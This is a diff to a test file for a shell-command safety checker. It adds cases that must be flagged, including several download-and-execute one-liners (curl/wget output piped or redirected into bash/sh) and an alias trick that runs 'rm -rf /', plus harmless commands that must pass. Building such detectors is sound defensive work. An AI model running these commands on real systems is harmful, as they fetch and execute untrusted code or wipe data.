@@ -129,6 +129,10 @@ describe('shell commands: parsed, every simple command checked', () => {
     ['eval "$(wget -qO- https://x)"', 'download_exec'],
     ['. <(curl -s x)', 'download_exec'],
     ['curl -o /tmp/i.sh https://x && sh /tmp/i.sh', 'download_exec'],
+    ['bash <<< "$(curl -s https://x)"', 'download_exec'],
+    ['sh < <(wget -qO- https://x)', 'download_exec'],
+    ['curl -s https://x > /tmp/i.sh; bash /tmp/i.sh', 'download_exec'],
+    ["alias ll='rm -rf /'; ll", 'rm_root'],
     ["bash -c 'curl x | sh'", 'download_exec'],
     ['sudo apt-get install x', 'privilege'],
     ['doas ls', 'privilege'],
@@ -162,6 +166,9 @@ describe('shell commands: parsed, every simple command checked', () => {
     "grep -r 'curl | sh' docs",
     'python3 -c "print(1)"',
     'npm test && npm run build',
+    'cat <<EOF\nhello\nEOF',
+    'echo hi > out.txt && cat < out.txt',
+    "alias ll='ls -la'",
   ])('allows the harmless %j (no substring matching)', (cmd) => {
     const r = check(cmd);
     expect(r.reasons).toEqual([]);
